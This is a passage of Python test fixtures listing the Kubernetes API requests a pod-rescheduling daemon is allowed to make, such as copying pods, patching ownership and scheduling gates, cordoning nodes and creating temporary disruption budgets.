        serviceAccountName="shop",
        containers=_contained(
            securityContext={"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}},
            envFrom=[{"secretRef": {"name": WEBHOOK_SECRET}}],
        ),
        volumes=[{"name": "v", "secret": {"secretName": "password"}}],
    ),
    _copy(
        "create the copy of a pod with many containers and volumes",  # each policy has a budget for its work
        serviceAccountName="shop",
        containers=[
            {
                "name": f"c{each}",
                "image": "i",
                "securityContext": {"capabilities": {"add": ["CHOWN", "NET_BIND_SERVICE"], "drop": ["ALL"]}},
                "env": [{"name": f"E{number}", "value": "x"} for number in range(20)],
                "envFrom": [{"secretRef": {"name": "password"}}],
            }
            for each in range(15)
        ],
        volumes=[{"name": f"v{each}", "secret": {"secretName": "password"}} for each in range(50)],
    ),
    _copy(
        "create a privileged copy where an administrator allows it",
        TRUSTED,
        serviceAccountName="operator",
        hostNetwork=True,
        containers=_contained(securityContext={"privileged": True}),
    ),
    _copy("create the copy of its own pod", HOME, labels("daemon"), serviceAccountName=DAEMON),
    _create("create the copy of a bare pod", _PODS, pod("rescheduled-db-x", spec=_GATED, **_COPY_MARKS)),
    _patch(
        "mark a pod",
        f"{_PODS}/web-1",
        {"metadata": {"labels": {MIGRATION_ID_LABEL: "x"}, "annotations": {ANNOTATIONS[0]: "x"}}},
    ),
    _patch("nominate a node", f"{_PODS}/copy/status", {"status": {"nominatedNodeName": NODE}}),
    _patch("open its gate", f"{_PODS}/copy", {"spec": {"schedulingGates": []}}),
    _patch(
        "offer a copy to its workload",
        f"{_PODS}/copy",
        {"metadata": {"ownerReferences": [{**_MIGRATION, "controller": False}]}},
    ),
    _patch("release a copy", f"{_PODS}/copy", {"metadata": {"ownerReferences": []}}),
    Request("delete a copy", "DELETE", f"{_PODS}/copy"),
    Request("delete a pod without a node", "DELETE", f"{_PODS}/gated"),
    *(
        _patch(
            f"record failed attempts on a {path.rpartition('/')[2].removesuffix('s')}",
            f"{path}/web",
            {"metadata": {"annotations": {"rescheduler.dev/failed-attempts": "{}"}}},
        )
        for path in (
            *(f"{_APPS}/{each}" for each in ("deployments", "replicasets", "statefulsets", "daemonsets")),
            *(f"{_BATCH}/{each}" for each in ("jobs", "cronjobs")),
        )
    ),
    _patch(
        "cordon a node",
        f"/api/v1/nodes/{NODE}",
        {"metadata": {"annotations": {"rescheduler.dev/cordoned-by": "x"}}, "spec": {"unschedulable": True}},
    ),
    _patch(
        "say whether a node is empty",
        f"/api/v1/nodes/{NODE}/status",
        {"status": {"conditions": [{"type": "rescheduler.dev/Empty", "status": "True"}]}},
        content_type="application/strategic-merge-patch+json",
    ),
    _create(
        "protect a workload by a temporary budget",
        _BUDGETS,
        {
            **_object(
                "policy/v1", "PodDisruptionBudget", "", spec={"maxUnavailable": 1, "selector": _SELECTOR}
            ),
            "metadata": {"name": "x-rescheduler-pdb", "ownerReferences": [_MIGRATION]},
        },
    ),
)
"""Allowed to the daemon."""
